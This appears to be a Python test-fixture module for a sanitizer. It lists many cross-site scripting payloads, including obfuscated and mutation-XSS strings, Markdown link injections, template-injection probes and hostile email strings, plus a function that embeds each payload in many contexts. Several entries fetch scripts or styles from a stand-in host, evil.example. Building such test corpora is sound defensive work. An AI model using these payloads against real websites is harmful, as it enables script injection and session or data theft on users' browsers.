"""Texts that want to run in somebody else's browser, or to break what they pass."""

from itertools import islice

from tests.text.hostile import HTML, MARKDOWN, carried

_CALLS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<p id=respond name=body>x</p>",
)
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](\u200bjavascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    '[x](https://a.example/"onmouseover=alert(1)")',
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x" onerror=alert(1) y="](x)',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    ">!<script>alert(1)</script>!<",
    "::: spoiler <script>alert(1)</script>\nx\n:::",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
)
BODIES = (*_CALLS, *_MARKDOWN)

# Markup that is harmless as it is read first, and something else once it has been
# written down and read again.
_MUTATIONS = (
    "<svg><desc><p></p><style><!--</style><img src=x onerror=pwn()>-->",
    "<svg><title><style><img title='</style><img src=x onerror=pwn()>'>",
    (
        "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea>"
        "<img onerror=pwn() src=1>'>"
    ),
    (
        "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style>"
        "<a title='</style><img src=x onerror=pwn()>'>"
    ),
    (
        "<svg><annotation-xml><foreignobject><style><!--</style><p id='--!>"
        "<img src=x onerror=pwn()>'>"
    ),
    (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
        "<img src=x onerror=pwn()>'>"
    ),
    "<select><style></select><img src=x onerror=pwn()></style>",
    "<table><td><svg><desc><td><title><a id='</title><img src=x onerror=pwn()>'>",
    "<noscript><style></noscript><img src=x onerror=pwn()></style>",
    "<p id='</p><img src=x onerror=pwn()>'><svg></p><plaintext>",
    "<a title='`<img src=x onerror=pwn()>`'>x</a>",
    "<svg><p><style><g title='</style><img src=x onerror=pwn()>'>",
    "<listing>&lt;img src=x onerror=pwn()&gt;</listing>",
    "<b title='&quot;><img src=x onerror=pwn()>'>x</b>",
    "&lt;img src=x onerror=pwn()&gt;",
    "&amp;lt;img src=x onerror=pwn()&amp;gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "\\<img src=x onerror=pwn()\\>",
    "<\u0131mg src=x onerror=pwn()>",
    "\uff1cimg src=x onerror=pwn()\uff1e",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=pwn()>",
    "<p contenteditable onbeforeinput=pwn() autofocus onfocus=pwn()>x</p>",
    (
        "<input type=hidden oncontentvisibilityautostatechange=pwn() "
        "style=content-visibility:auto>"
    ),
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=pwn()>y</p>",
    "<iframe src='//evil.example/frame'></iframe>",
    "<script type=module>import('//evil.example/x.js')</script>",
)
_SPOILED = (
    ">!{}!<",
    "::: spoiler {}\nx\n:::",
    "::: spoiler End\n{}\n:::",
    "<svg><desc>{}</desc></svg>",
    "<math><mtext>{}</mtext></math>",
    "<p title='{}'>x</p>",
    '<a href="https://a.example/" title="{}">x</a>',
    "<!-- {} -->",
    "~~~html\n{}\n~~~",
    "1. {}",
    "[x]: https://a.example '{}'\n\n[x]",
    "<https://a.example/{}>",
)
EMAILS = (
    "",
    "a'onmouseover='pwn'b@a.example",
    "{{7*7}}@a.example",
    "`pwn`@a.example",
    "a&lt&#60b@a.example",
    "javascript/**/@a.example",
)


def many_bodies(count: int = 1_000) -> list[str]:
    """Make so many different texts, each attack in several of its surroundings."""
    seeds = dict.fromkeys((*_MUTATIONS, *BODIES, *HTML, *MARKDOWN))
    around = [
        [*carried(seed), *(form.replace("{}", seed) for form in _SPOILED)]
        for seed in seeds
    ]
    # Each as it is, then each in one more of its surroundings, until there are enough.
    turns = range(max(map(len, around)))
    spread = (
        texts[(turn * 7 + number * turn) % len(texts)]
        for turn in turns
        for number, texts in enumerate(around)
    )
    return list(islice(dict.fromkeys(spread), count))
